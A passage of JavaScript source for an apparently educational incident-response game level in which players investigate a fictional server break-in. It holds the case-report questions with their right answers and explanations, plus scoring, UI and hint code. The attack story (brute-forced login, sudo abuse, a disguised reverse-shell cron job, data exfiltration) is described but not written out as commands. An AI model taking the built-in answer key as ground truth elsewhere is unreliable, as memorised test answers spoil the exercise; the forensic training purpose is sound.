  },
  {
    id: 'persistence',
    prompt: 'What lets The Null come back automatically, as root?',
    answer: 'fake-cron',
    options: [
      { id: 'php-cron', label: '/etc/cron.d/php — the PHP session clean-up job' },
      { id: 'ssh-key', label: 'An SSH key added to root’s authorized_keys' },
      { id: 'fake-cron', label: '/etc/cron.d/php-sessionclean2 — a reverse shell every 15 minutes' },
      { id: 'systemd', label: 'A systemd service started at boot' },
    ],
    why: 'php-sessionclean2 belongs to no package, was back-dated with touch -r, and connects to 203.0.113.77 as root every 15 minutes (syslog shows it running).',
  },
  {
    id: 'taken',
    prompt: 'What was taken?',
    answer: 'share-archive',
    options: [
      { id: 'nothing', label: 'Nothing: the upload was refused (403)' },
      { id: 'browser-passwords', label: 'Mara’s saved browser passwords' },
      { id: 'nightly-backup', label: 'The 12.4 GB nightly backup' },
      { id: 'share-archive', label: 'The Q1 client ledger, February payroll and contracts (q1_clients.tar.gz)' },
    ],
    why: 'root’s history packs those files into q1_clients.tar.gz; sync.log shows the retry finishing with 200 OK, and the note lists the same files.',
  },
  {
    id: 'when',
    prompt: 'When did the stolen archive finish leaving the server (UTC)?',
    answer: 't0238',
    options: [
      time('t2238', '13 Mar 2025, 22:38 UTC'),
      time('t0211', '14 Mar 2025, 02:11 UTC'),
      time('t0238', '14 Mar 2025, 02:38 UTC'),
      time('t0338', '14 Mar 2025, 03:38 UTC'),
      time('t1138', '14 Mar 2025, 11:38 UTC'),
    ],
    why: 'sync.log: "upload complete … 200 OK" at 02:38 UTC (on hard it reads 11:38 +0900: subtract nine hours).',
  },
  {
    id: 'source',
    prompt: 'From which address did The Null connect to the server?',
    answer: 'ip-203-0-113-77',
    options: [
      { id: 'ip-198-51-100-23', label: '198.51.100.23' },
      { id: 'ip-203-0-113-77', label: '203.0.113.77' },
      { id: 'ip-203-0-113-80', label: '203.0.113.80' },
      { id: 'ip-10-20-4-15', label: '10.20.4.15' },
    ],
    why: '203.0.113.77 guessed the password, logged in, uploaded the web shell and receives the reverse shell. 203.0.113.80 is the drop server the data went to; 198.51.100.23 is a scanner; 10.20.4.15 is Mara.',
  },
];

/** The points of a perfect case file: every exhibit with its category, every answer right. */
export const FULL_POINTS = SCORING.evidencePoints + REPORT_QUESTIONS.length * SCORING.answerPoints;

// ---------------------------------------------------------------------------------------------
// Pure rules: what is on the disk for a difficulty, how times are shown, the score.

const inMode = (item, difficulty) => !item.hardOnly || difficulty === 'hard';

/** The files on the disk for this difficulty. */
export function filesFor(difficulty) {
  return FILES.filter((file) => inMode(file, difficulty));
}

/** The taggable items (evidence and decoys) for this difficulty. */
export function evidenceFor(difficulty) {
  return EVIDENCE.filter((item) => inMode(item, difficulty));
}

/** The lines of a log shown for this difficulty, in time order (histories keep their order). */
export function linesFor(file, difficulty) {
  const lines = file.lines.filter((line) => !line.hard || difficulty === 'hard');
  if (file.format === 'history') return lines;
  return [...lines].sort((a, b) => a.t.localeCompare(b.t));
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n) => String(n).padStart(2, '0');

function offsetText(minutes, withColon) {
  const sign = minutes < 0 ? '-' : '+';
  const abs = Math.abs(minutes);
  return `${sign}${pad(Math.floor(abs / 60))}${withColon ? ':' : ''}${pad(abs % 60)}`;
}

/** A UTC ISO time written as a log in `offset` minutes east of UTC would write it. */
export function formatTime(iso, offset, style) {
  const d = new Date(Date.parse(iso) + offset * 60000);
  const date = `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}`;
  const clock = `${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
  if (style === 'apache') {
    return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${clock} ${offsetText(offset, false)}`;
  }
  if (style === 'rfc3339') return `${date}T${clock}${offsetText(offset, true)}`;
  return `${date} ${clock} ${offsetText(offset, false)}`;
}

const zoneOffset = (zone, difficulty) => (zone ? TIME_ZONES[zone][difficulty === 'hard' ? 'hard' : 'normal'] : 0);

/** One log line as text, the way the file holds it. */
export function lineText(file, line, difficulty) {
  const offset = zoneOffset(file.zone, difficulty);
  switch (file.format) {
    case 'history':
      return difficulty === 'hard' && line.hardText ? line.hardText : line.text;
    case 'apache':
      return `${line.ip} - - [${formatTime(line.t, offset, 'apache')}] "${line.req}" ${line.st} ${line.sz} "${line.ref || '-'}" "${line.ua}"`;
    case 'sync':
      return `${formatTime(line.t, offset, 'plain')} ${line.msg}`;
    default:
      return `${formatTime(line.t, offset, 'rfc3339')} ${HOST} ${line.msg}`;
  }
}

/** A number of the level's points as score, on a level whose max_score is `maxScore`. */
export function pointsToScore(points, maxScore) {
  return Math.round((maxScore * points) / FULL_POINTS);
}

/**
 * Score a case file. `tags` maps evidence id -> chosen category, `answers` question id -> option id,
 * `maxScore` is the level's max_score (a perfect case file scores exactly this).
 * Evidence earns its share of 900 points only with the right category; each innocent item tagged
 * costs 75 (the evidence part never goes below 0); each right answer earns 120. `evidenceScore`
 * and `reportScore` are the two parts as score, for the feedback; `score` is rounded once.
 */
export function scoreCase({ tags, answers, difficulty, maxScore }) {
  const items = evidenceFor(difficulty);
  const realItems = items.filter((item) => !item.decoy);
  const correct = realItems.filter((item) => tags[item.id] === item.category);
  const wrongCategory = realItems.filter((item) => tags[item.id] && tags[item.id] !== item.category);
  const missed = realItems.filter((item) => !tags[item.id]);
  const decoys = items.filter((item) => item.decoy && tags[item.id]);
  const rightAnswers = REPORT_QUESTIONS.filter((q) => answers[q.id] === q.answer);
  const wrongAnswers = REPORT_QUESTIONS.filter((q) => answers[q.id] !== q.answer);
  // Evidence is counted in 1/realItems.length of a point, so the sum stays whole until the end.
  const evidenceShares = Math.max(0,
    SCORING.evidencePoints * correct.length - realItems.length * SCORING.decoyPenalty * decoys.length);
  const reportPoints = SCORING.answerPoints * rightAnswers.length;
  const outOf = FULL_POINTS * realItems.length;
  return {
    score: Math.round((maxScore * (evidenceShares + realItems.length * reportPoints)) / outOf),
    evidenceScore: Math.round((maxScore * evidenceShares) / outOf),
    reportScore: pointsToScore(reportPoints, maxScore),
    total: realItems.length,
    correct,
    wrongCategory,
    missed,
    decoys,
    rightAnswers,
    wrongAnswers,
  };
}

// ---------------------------------------------------------------------------------------------
// The game on the simulated PC.

const categoryLabel = (id) => (CATEGORIES.find((c) => c.id === id) || { label: id }).label;
const fileName = (file) => file.path.split('/').pop();
// Long names would widen the taskbar button until the taskbar wraps and squeezes the desktop.
const shortTitle = (name) => (name.length > 24 ? `${name.slice(0, 22)}…` : name);

/** The level's state and the redraw of every open window after a change. */
function createGame(pc) {
  const difficulty = pc.difficulty;
  const files = filesFor(difficulty);
  const evidence = new Map(evidenceFor(difficulty).map((item) => [item.id, item]));
  const keyFiles = new Set([...evidence.values()].filter((item) => !item.decoy).map((item) => item.file));
  return {
    pc,
    difficulty,
    files,
    evidence,
    keyFiles,
    showHidden: difficulty === 'easy', // easy shows hidden files from the start
    opened: new Set(),
    viewing: null,
    tags: new Map(), // evidence id -> category, in the order tagged
    pending: new Map(), // evidence id -> category chosen but not yet tagged
    answers: {},
    result: null,
    views: new Map(), // window name -> {body, render}
  };
}

/** Redraw the open windows, keeping scroll positions and keyboard focus. */
function refresh(game) {
  const focused = document.activeElement && document.activeElement.getAttribute('data-testid');
  for (const [name, view] of game.views) {
    if (!view.body.isConnected) {
      game.views.delete(name);
      continue;
    }
    const scroll = view.body.scrollTop;
    view.render(game, view.body);
    view.body.scrollTop = scroll;
  }
  if (focused) {
    const again = document.querySelector(`[data-testid="${focused}"]`);
    if (again) again.focus();
  }
}

// Where each window goes on a desktop of `width` × `height`: the file tree and the locker stacked
// beside the desktop icons, the viewer filling the rest, briefing and report on top.
const LAYOUT = {
  files: (width, height) => ({ left: 104, top: 8, width: 300, height: Math.round((height - 24) * 0.55) }),
  locker: (width, height) => {
    const top = 16 + Math.round((height - 24) * 0.55);
    return { left: 104, top, width: 300, height: height - top - 8 };
  },
  viewer: (width, height) => ({ left: 412, top: 8, width: Math.max(420, width - 420), height: height - 16 }),
  briefing: (width, height) => ({ left: Math.max(104, (width - 640) / 2), top: 16, width: 640, height: Math.min(560, height - 32) }),
  report: (width, height) => ({ left: Math.max(104, width - 620), top: 24, width: 600, height: height - 48 }),
};

/** Open a window, sized and placed for this desktop when it opens (players may move it later). */
function openPlaced(game, spec) {
  const { width, height } = game.pc.desktopSize;
  const box = LAYOUT[spec.id](width, height); // openWindow keeps it inside the desktop
  const place = Object.fromEntries(Object.entries(box).map(([key, px]) => [key, Math.round(px)]));
  return game.pc.openWindow({ ...spec, ...place });
}

function show(game, name, win, render) {
  game.views.set(name, { body: win.body, render });
  render(game, win.body);
}

function setTag(game, id, category) {
  if (game.result) return;
  if (category) game.tags.set(id, category);
  else game.tags.delete(id);
  refresh(game);
}

// --- Briefing ----------------------------------------------------------------------------------

function openBriefing(game) {
  const win = openPlaced(game, { id: 'briefing', title: 'Briefing', icon: 'bi-info-circle' });
  replace(win.body, briefingContent(game, win));
}

function timeZoneNote(difficulty) {
  if (difficulty !== 'hard') {
    return h('p', { class: 'small', 'data-testid': 'timezone-note' }, icon('bi-clock'),
      ' Every clock on this server is set to UTC, so timestamps compare directly.');
  }
  return h('div', { class: 'alert alert-warning small py-2', 'data-testid': 'timezone-note' },
    h('strong', {}, 'Time zones do not agree. '),
    `The logs were written in three different zones: ${TIME_ZONES.host.name}; ${TIME_ZONES.web.name}; ${TIME_ZONES.tool.name}. `,
    'Each timestamp carries its offset from UTC. To get UTC, subtract the offset: 08:00 +01:00 is 07:00 UTC, ',
    '20:30 -0400 is 00:30 UTC the next day. Convert everything to UTC before deciding what happened first; the report asks for UTC.');
}

function briefingContent(game, win) {
  const easy = game.difficulty === 'easy';
  const maxScore = game.pc.level.max_score;
  return [
    h('h2', { class: 'h5' }, icon('bi-incognito'), ' The Hunt for The Null'),
    h('p', {}, 'Quillfeather Logistics (quillfeather.example). At 07:45 UTC on 14 March 2025, Mara Lindqvist of IT operations ',
      'found a note signed "The Null" on the office server qf-srv01. The server has been isolated and its disk mounted ',
      'read-only for you. Find out how The Null got in, how they made sure they could come back, what they took, and prove it.'),
    h('ol', { class: 'small' },
      h('li', {}, 'Open files in the File Manager (double-click or Enter) and read them. Some files are hidden.'),
      h('li', {}, 'Tag the log lines and files that prove the attack, choosing what each proves: ',
        h('strong', {}, 'Initial access'), ' (how they got in), ', h('strong', {}, 'Privilege escalation / persistence'),
        ' (how they became root or kept a way back), ', h('strong', {}, 'Exfiltration'), ' (what left and how), ',
        h('strong', {}, 'Attribution'), ' (who is behind it).'),
      h('li', {}, `Leave innocent items alone: Mara, the deploy job and the system leave normal traces. Each innocent item in the Evidence Locker costs ${pointsToScore(SCORING.decoyPenalty, maxScore)} points.`),
      h('li', {}, 'Answer the Case Report and submit it. You need at least one exhibit per category to submit.')),
    h('p', { class: 'small mb-2' }, `Score: up to ${pointsToScore(SCORING.evidencePoints, maxScore)} for evidence (each real exhibit with the right category) and ${pointsToScore(SCORING.answerPoints, maxScore)} for each of the five report answers.`),
    timeZoneNote(game.difficulty),
    easy ? h('p', { class: 'small', 'data-testid': 'easy-note' }, icon('bi-star-fill text-warning'),
      ' Easy mode: files that hold evidence are starred, and hidden files are shown.') : null,
    h('button', {
      type: 'button', class: 'btn btn-primary btn-sm', 'data-testid': 'briefing-start',
      onclick: () => { win.close(); openFileManager(game); openLocker(game); },
    }, icon('bi-search'), ' Start the investigation'),
  ];
}

// --- File Manager ------------------------------------------------------------------------------

function openFileManager(game) {
  const win = openPlaced(game, { id: 'files', title: 'File Manager', icon: 'bi-folder2-open' });
  show(game, 'files', win, renderFileManager);
}

function buildTree(files) {
  const root = { name: '', folders: new Map(), files: [] };
  for (const file of files) {
    let node = root;
    for (const part of file.path.split('/').filter(Boolean).slice(0, -1)) {
      if (!node.folders.has(part)) node.folders.set(part, { name: part, folders: new Map(), files: [] });
      node = node.folders.get(part);
    }
    node.files.push(file);
  }
  return root;
}

function fileIcon(file) {
  if (file.kind === 'log') return 'bi-file-earmark-text';
  if (file.kind === 'binary') return 'bi-file-earmark-binary';
  if (file.path.endsWith('.gz')) return 'bi-file-earmark-zip';
  return 'bi-file-earmark';
}

function taggedCount(game, fileId) {
  return [...game.tags.keys()].filter((id) => game.evidence.get(id).file === fileId).length;
}

function fileRow(game, file, depth) {
  const open = () => openFile(game, file.id);
  const starred = game.difficulty === 'easy' && game.keyFiles.has(file.id);
  const count = taggedCount(game, file.id);
  const classes = ['l5-file', starred ? 'l5-key' : '', game.viewing === file.id ? 'l5-selected' : '',
    game.opened.has(file.id) ? 'l5-opened' : ''];
  return h('div', {
    class: classes.join(' ').trim(), role: 'button', tabindex: '0', 'data-testid': `file-${file.id}`,
    title: file.path, style: { paddingLeft: `${0.35 + depth * 0.9}rem` }, ondblclick: open,
    onkeydown: (event) => { if (event.key === 'Enter') open(); },
  },
  icon(fileIcon(file)), h('span', { class: 'l5-name' }, fileName(file)),
  starred ? icon('bi-star-fill text-warning') : null,
  count ? h('span', { class: 'badge text-bg-warning l5-count', title: 'Tagged items' }, String(count)) : null);
}

function treeRows(game, node, depth) {
  const rows = [];
  const folders = [...node.folders.values()].sort((a, b) => a.name.localeCompare(b.name));
  for (const folder of folders) {
    if (folder.name.startsWith('.') && !game.showHidden) continue;
    rows.push(h('div', { class: 'l5-folder', style: { paddingLeft: `${0.35 + depth * 0.9}rem` } },
      icon('bi-folder2-open'), ` ${folder.name}/`));
    rows.push(...treeRows(game, folder, depth + 1));
  }
  const files = [...node.files].sort((a, b) => fileName(a).localeCompare(fileName(b)));
  for (const file of files) {
    if (fileName(file).startsWith('.') && !game.showHidden) continue;
    rows.push(fileRow(game, file, depth));
  }
  return rows;
}

function renderFileManager(game, body) {
  const toggle = h('input', {
    type: 'checkbox', class: 'form-check-input', id: 'l5-show-hidden', 'data-testid': 'toggle-hidden',
    checked: game.showHidden,
    onchange: (event) => { game.showHidden = event.target.checked; refresh(game); },
  });
  replace(body,
    h('div', { class: 'form-check form-switch small mb-2' }, toggle,
      h('label', { class: 'form-check-label', for: 'l5-show-hidden' }, 'Show hidden files (names starting with a dot)')),
    h('div', { class: 'l5-tree', 'data-testid': 'file-tree' },
      h('div', { class: 'l5-folder' }, icon('bi-hdd'), ` ${HOST}:/`), treeRows(game, buildTree(game.files), 1)));
}

// --- Viewer ------------------------------------------------------------------------------------

function openFile(game, fileId) {
  game.opened.add(fileId);
  game.viewing = fileId;
  const file = game.files.find((f) => f.id === fileId);
  const win = openPlaced(game, { id: 'viewer', title: 'Viewer', icon: 'bi-file-earmark-text' });
  win.setTitle(shortTitle(fileName(file)));
  show(game, 'viewer', win, renderViewer);
  refresh(game); // marks the file as opened in the tree
  win.body.scrollTop = 0; // a new file starts at its top
}

function tagControls(game, id) {
  const tagged = game.tags.get(id);
  const chosen = tagged || game.pending.get(id) || '';
  const locked = Boolean(game.result);
  const select = h('select', {
    class: 'form-select form-select-sm', 'data-testid': `category-${id}`, 'aria-label': 'What does this prove?', disabled: locked,
    onchange: (event) => {
      const value = event.target.value;
      game.pending.set(id, value);
      if (game.tags.has(id)) setTag(game, id, value || null);
      else button.disabled = !value;
    },
  },
  h('option', { value: '', selected: !chosen }, 'What does it prove?'),
  CATEGORIES.map((c) => h('option', { value: c.id, selected: chosen === c.id }, c.short)));
  const button = h('button', {
    type: 'button', class: `btn btn-sm ${tagged ? 'btn-warning' : 'btn-outline-warning'}`, 'data-testid': `tag-${id}`,
    'aria-pressed': tagged ? 'true' : 'false', disabled: locked || (!tagged && !chosen),
    onclick: () => setTag(game, id, game.tags.has(id) ? null : select.value),
  }, icon(tagged ? 'bi-bookmark-check-fill' : 'bi-bookmark-plus'), tagged ? ' Tagged' : ' Tag');
  return h('div', { class: 'l5-controls' }, select, button);
}

function logView(game, file) {
  const rows = linesFor(file, game.difficulty).map((line, index) => {
    const tagged = line.ev && game.tags.has(line.ev);
    return h('div', { class: `l5-line${tagged ? ' l5-tagged' : ''}`, 'data-testid': line.ev ? `line-${line.ev}` : null },
      h('span', { class: 'l5-ln' }, String(index + 1)),
      h('span', { class: 'l5-text' }, lineText(file, line, game.difficulty)),
      line.ev ? tagControls(game, line.ev) : null);
  });
  return h('div', { class: 'l5-log', 'data-testid': 'file-content' }, rows);
}

function metaValue(game, value) {
  if (value && value.t) return formatTime(value.t, zoneOffset('host', game.difficulty), 'plain');
  return value;
}

function metaTable(game, file) {
  if (!file.meta) return null;
  return h('dl', { class: 'l5-meta row small mb-2' }, file.meta.map(([label, value]) => [
    h('dt', { class: 'col-4 fw-normal text-body-secondary' }, label),
    h('dd', { class: 'col-8 mb-0' }, metaValue(game, value)),
  ]));
}

function fileHeader(game, file) {
  const tagged = file.ev && game.tags.has(file.ev);
  return h('div', { class: `l5-file-head${tagged ? ' l5-tagged' : ''}` },
    h('div', { class: 'd-flex align-items-center gap-2 flex-wrap' },
      h('code', { class: 'me-auto' }, file.path),
      file.ev ? h('span', { class: 'small text-body-secondary' }, 'Tag this file:') : null,
      file.ev ? tagControls(game, file.ev) : null),
    file.kind === 'log' ? h('p', { class: 'small text-body-secondary my-1' },
      'Tag individual lines with the controls on the right.') : null);
}

function renderViewer(game, body) {
  const file = game.files.find((f) => f.id === game.viewing);
  let content;
  if (file.kind === 'log') content = logView(game, file);
  else if (file.kind === 'text') content = h('pre', { class: 'l5-doc', 'data-testid': 'file-content' }, file.text);
  else content = h('p', { class: 'small text-body-secondary', 'data-testid': 'file-content' }, icon('bi-file-earmark-binary'), ' Binary file: properties only.');
  replace(body, fileHeader(game, file), metaTable(game, file), content);
}

// --- Evidence Locker ---------------------------------------------------------------------------

function openLocker(game) {
  const win = openPlaced(game, { id: 'locker', title: 'Evidence Locker', icon: 'bi-archive' });
  show(game, 'locker', win, renderLocker);
}

function coveredCategories(game) {
  return new Set(game.tags.values());
}

function coverage(game) {
  const covered = [...game.tags.values()];
  return h('div', { class: 'd-flex flex-wrap gap-1 mb-2' }, CATEGORIES.map((c) => {
    const n = covered.filter((value) => value === c.id).length;
    return h('span', { class: `badge ${n ? 'text-bg-success' : 'text-bg-secondary'}`, 'data-testid': `coverage-${c.id}` },
      icon(n ? 'bi-check2' : 'bi-dash'), ` ${c.short}: ${n}`);
  }));
}

function lockerItem(game, id, category) {
  const item = game.evidence.get(id);
  return h('li', { class: 'list-group-item px-2 py-1 small d-flex align-items-start gap-2', 'data-testid': `locker-${id}` },
    h('div', { class: 'flex-grow-1' }, h('div', {}, item.label),
      h('span', { class: 'badge text-bg-info' }, categoryLabel(category))),
    h('button', {
      type: 'button', class: 'btn btn-sm btn-outline-danger py-0', 'data-testid': `untag-${id}`,
      'aria-label': `Remove ${item.label}`, disabled: Boolean(game.result), onclick: () => setTag(game, id, null),
    }, icon('bi-x-lg')));
}

function renderLocker(game, body) {
  const items = [...game.tags.entries()].map(([id, category]) => lockerItem(game, id, category));
  replace(body,
    coverage(game),
    items.length
      ? h('ul', { class: 'list-group list-group-flush mb-2', 'data-testid': 'locker-items' }, items)
      : h('p', { class: 'small text-body-secondary', 'data-testid': 'locker-empty' },
        'No exhibits yet. Open a file, choose what an item proves and press Tag.'),
    h('button', { type: 'button', class: 'btn btn-sm btn-outline-info', 'data-testid': 'open-report', onclick: () => openReport(game) },
      icon('bi-clipboard-check'), ' Case report'));
}

// --- Case Report -------------------------------------------------------------------------------

function openReport(game) {
  const win = openPlaced(game, { id: 'report', title: 'Case Report', icon: 'bi-clipboard-check' });
  show(game, 'report', win, renderReport);
}

function missingDecisions(game) {
  const missing = [];
  const unanswered = REPORT_QUESTIONS.filter((q) => !game.answers[q.id]).length;
  if (unanswered) missing.push(`answer ${unanswered} more question${unanswered > 1 ? 's' : ''}`);
  const covered = coveredCategories(game);
  const uncovered = CATEGORIES.filter((c) => !covered.has(c.id)).map((c) => c.label);
  if (uncovered.length) missing.push(`tag at least one exhibit for: ${uncovered.join(', ')}`);
  return missing;
}

function questionField(game, question) {
  const select = h('select', {
    class: 'form-select form-select-sm', id: `l5-q-${question.id}`, 'data-testid': `report-${question.id}`,
    disabled: Boolean(game.result),
    onchange: (event) => { game.answers[question.id] = event.target.value; refresh(game); },
  },
  h('option', { value: '', selected: !game.answers[question.id] }, 'Choose…'),
  question.options.map((o) => h('option', { value: o.id, selected: game.answers[question.id] === o.id }, o.label)));
  return h('div', { class: 'mb-2' }, h('label', { class: 'form-label small mb-1', for: select.id }, question.prompt), select);
}

function renderReport(game, body) {
  const missing = missingDecisions(game);
  const status = game.result ? 'Case submitted.'
    : missing.length ? `Before submitting: ${missing.join('; ')}.` : 'Ready to submit.';
  replace(body,
    h('p', { class: 'small' }, 'Answer from the evidence you found. Times in UTC.'),
    REPORT_QUESTIONS.map((q) => questionField(game, q)),
    h('p', { class: 'small text-body-secondary', 'data-testid': 'submit-status' }, status),
    h('button', {
      type: 'button', class: 'btn btn-primary', 'data-testid': 'submit-level',
      disabled: Boolean(game.result) || missing.length > 0, onclick: () => submitCase(game),
    }, icon('bi-send-check'), ' Submit case file'),
    game.result ? feedback(game, game.result) : null);
}

// --- Submission and feedback -------------------------------------------------------------------

function submitCase(game) {
  if (game.result || missingDecisions(game).length) return;
  const result = scoreCase({
    tags: Object.fromEntries(game.tags), answers: game.answers, difficulty: game.difficulty, maxScore: game.pc.level.max_score,
  });
  // Every wrong decision counts once: innocent items tagged, right items mislabelled, wrong answers.
  const wrong = result.decoys.length + result.wrongCategory.length + result.wrongAnswers.length;
  for (let i = 0; i < wrong; i += 1) game.pc.recordMistake();
  game.result = result;
  refresh(game);
  scrollToFeedback(game);
  game.pc.finish({ score: result.score, summary: summaryLines(result, game.pc.level.max_score) });
}

// Scroll only the report window: scrollIntoView would also scroll the clipped desktop behind it.
function scrollToFeedback(game) {
  const view = game.views.get('report');
  const shown = view && view.body.querySelector('[data-testid="feedback"]');
  if (!shown) return;
  scrollWithin(view.body, shown);
}

function summaryLines(result, maxScore) {
  const reportMax = pointsToScore(REPORT_QUESTIONS.length * SCORING.answerPoints, maxScore);
  return [
    `Evidence: ${result.correct.length} of ${result.total} exhibits with the right category (${result.evidenceScore} / ${pointsToScore(SCORING.evidencePoints, maxScore)}).`,
    `Innocent items tagged: ${result.decoys.length}. Mislabelled exhibits: ${result.wrongCategory.length}.`,
    `Case report: ${result.rightAnswers.length} of ${REPORT_QUESTIONS.length} answers right (${result.reportScore} / ${reportMax}).`,
    'The Null got in by guessing a weak password, became root through an over-generous sudo rule, planted a disguised cron job, and sent the share archive out at 02:38 UTC.',
  ];
}

function feedbackList(title, items, describe, testid) {
  if (!items.length) return null;
  return h('div', { class: 'mb-2', 'data-testid': testid },
    h('h3', { class: 'h6 mb-1' }, title),
    h('ul', { class: 'small mb-0' }, items.map((item) => h('li', {}, describe(item)))));
}

function questionFeedback(question, chosen) {
  const right = chosen === question.answer;
  const label = (id) => question.options.find((o) => o.id === id).label;
  return h('li', { class: 'mb-1', 'data-testid': `feedback-${question.id}`, 'data-correct': String(right) },
    h('span', { class: right ? 'text-success' : 'text-danger' }, icon(right ? 'bi-check-circle' : 'bi-x-circle'), ` ${question.prompt}`),
    h('div', {}, right ? 'Your answer: ' : `You chose “${label(chosen)}”. Right answer: `, h('strong', {}, label(question.answer)), '.'),
    h('div', { class: 'text-body-secondary' }, question.why));
}

function feedback(game, result) {
  return h('div', { class: 'mt-3 border-top pt-2', 'data-testid': 'feedback' },
    h('p', { class: 'fw-semibold', 'data-testid': 'feedback-score' }, `Score ${result.score} of ${game.pc.level.max_score}`),
    h('h3', { class: 'h6 mb-1' }, 'Case report'),
    h('ul', { class: 'small' }, REPORT_QUESTIONS.map((q) => questionFeedback(q, game.answers[q.id]))),
    feedbackList('Innocent items you tagged', result.decoys, (item) => `${item.label} — ${item.why}`, 'feedback-decoys'),
    feedbackList('Right exhibit, wrong category', result.wrongCategory,
      (item) => `${item.label}: it proves ${categoryLabel(item.category)}, not ${categoryLabel(game.tags.get(item.id))}. ${item.why}`,
      'feedback-wrong-category'),
    feedbackList('Evidence you missed', result.missed,
      (item) => `${item.label} (${categoryLabel(item.category)}) — ${item.why}`, 'feedback-missed'),
    feedbackList('Exhibits you got right', result.correct,
      (item) => `${item.label} (${categoryLabel(item.category)}) — ${item.why}`, 'feedback-correct'));
}

// --- Hints -------------------------------------------------------------------------------------

function currentHint(game) {
  const covered = coveredCategories(game);
  if (game.result) return 'The case is closed: read the feedback in the Case Report window.';
  if (!game.opened.size) {
    return 'Open the File Manager and start with /var/log/auth.log: a long run of failed logins followed by a success is the classic sign of password guessing.';
  }
  if (!covered.has('initial-access')) {
    return 'In /var/log/auth.log, who failed to log in hundreds of times — and did that address ever succeed? Compare with the office range 10.20.x.x.';
  }
  if (!game.showHidden) {
    return 'Attackers like names that start with a dot: they are hidden by default. Switch on "Show hidden files" and look in /tmp and the home folders.';
  }
  if (!covered.has('persistence')) {
    return 'How did deploy become root, and how would the intruder come back? Read the shell histories (.bash_history) and compare the files in /etc/cron.d — one is not what its name claims.';
  }
  if (!covered.has('exfiltration')) {
    return 'Look for an archive staged in a hidden folder under /tmp, and the log of the tool that sent it out.';
  }
  if (!covered.has('attribution')) {
    return "Who is behind it? Something on Mara's desktop is signed — and root's history shows how it got there.";
  }
  const unanswered = REPORT_QUESTIONS.find((q) => !game.answers[q.id]);
  if (unanswered) return unanswered.id === 'when' && game.difficulty === 'hard' ? timeHint() : `Open the Case Report and answer: "${unanswered.prompt}"`;
  return 'Before you submit: Mara’s own logins (10.20.4.15), routine updates, the genuine PHP cron job and internet scanners are innocent. Each real exhibit needs the category of what it proves.';
}

function timeHint() {
  return 'Convert before you compare: a timestamp ending +0900 is nine hours ahead of UTC (subtract 9 h); one ending -0400 is four hours behind (add 4 h, which may change the date).';
}

// --- Entry point -------------------------------------------------------------------------------

/** Start level 5 on the simulated PC. */
export function start(pc) {
  loadLevelStylesheet(5);
  const game = createGame(pc);
  pc.addIcon({ id: 'files', label: 'File Manager', icon: 'bi-folder2-open', open: () => openFileManager(game) });
  pc.addIcon({ id: 'locker', label: 'Evidence Locker', icon: 'bi-archive', open: () => openLocker(game) });
  pc.addIcon({ id: 'report', label: 'Case Report', icon: 'bi-clipboard-check', open: () => openReport(game) });
  pc.addIcon({ id: 'briefing', label: 'Case Briefing', icon: 'bi-info-circle', open: () => openBriefing(game) });
  pc.setHintProvider(() => currentHint(game));
  openBriefing(game);
}
